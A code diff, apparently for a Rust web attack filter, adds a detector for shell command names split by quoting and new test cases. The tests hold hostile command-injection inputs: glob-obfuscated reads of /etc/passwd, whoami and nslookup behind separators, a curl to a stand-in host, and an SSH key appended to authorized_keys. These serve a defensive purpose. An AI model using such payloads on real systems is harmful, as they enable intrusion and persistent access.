@@ -20,6 +20,7 @@ pub mod policy;
 mod quoted_code;
 pub mod rules;
 pub mod scanner;
+mod split_command;
 pub mod structural;
 
 use std::borrow::Cow;
@@ -175,7 +176,7 @@ impl Verdict {
 }
 
 /// Ids of findings made by structural checks rather than pattern rules.
-pub const STRUCTURAL_RULES: [&str; 16] = [
+pub const STRUCTURAL_RULES: [&str; 17] = [
     "sqli-libinjection",
     "sqli-quote-breakout-end",
     "xss-libinjection",
@@ -192,6 +193,7 @@ pub const STRUCTURAL_RULES: [&str; 16] = [
     "rfi-internal-host",
     "rfi-path-parameter",
     "scanner-user-agent",
+    "rce-split-command",
 ];
 
 /// The compiled detectors; built once at start and shared by every worker.
@@ -329,12 +331,15 @@ impl AttackFilter {
             record(&mut hits, &uncommented);
         }
         let shell = families.contains(Family::Rce).then(|| fold::shell(&lower));
+        let mut split_command = None;
         match &shell {
             Some(Cow::Borrowed(_)) => same_text = same_text.with(Form::Shell),
             Some(Cow::Owned(shell)) => {
                 self.patterns
                     .scan(Forms::of(Form::Shell), shell, enabled, &mut hits);
                 record(&mut hits, shell);
+                // Only a text the fold changed can hold a name it joined.
+                split_command = split_command::split_command_name(&lower);
             }
             None => {}
         }
@@ -404,6 +409,9 @@ impl AttackFilter {
         }
         if families.contains(Family::Xss) && structural::xss(xss_decoded) {
             conclude("xss-libinjection", Family::Xss, mask_fragment(&decoded));
+        }
+        if let Some(word) = split_command {
+            conclude("rce-split-command", Family::Rce, mask_fragment(word));
         }
         if families.contains(Family::Rfi)
             && let Some(host) = internal_host::obfuscated_internal_host(&lower)
@@ -835,6 +843,22 @@ mod tests {
             ("| dir c:\\", "rce-separator-command"),
             ("& nslookup evil.example &", "rce-separator-command"),
             ("cat /[?]tc/pa[?]swd", "rce-glob-path"),
+            ("cat /et*/*wd", "rce-glob-path"),
+            ("/bin/c?t /e??/p?ss??", "rce-glob-command"),
+            (";/usr/bin/wh?ami", "rce-glob-command"),
+            // A command behind one that runs it, and a command that writes a file.
+            (";time sh -c whoami", "rce-separator-command"),
+            (
+                "&& nohup curl -s http://x.example/a",
+                "rce-separator-command",
+            ),
+            (
+                ";echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
+                "rce-separator-command",
+            ),
+            // A command's name split by the shell's quoting, alone.
+            ("w'h'o'am'i", "rce-split-command"),
+            ("wh\\oami", "rce-split-command"),
             ("$SHELL -c \"echo hi\"", "rce-shell-variable"),
             ("() {", "rce-shellshock"),
             (
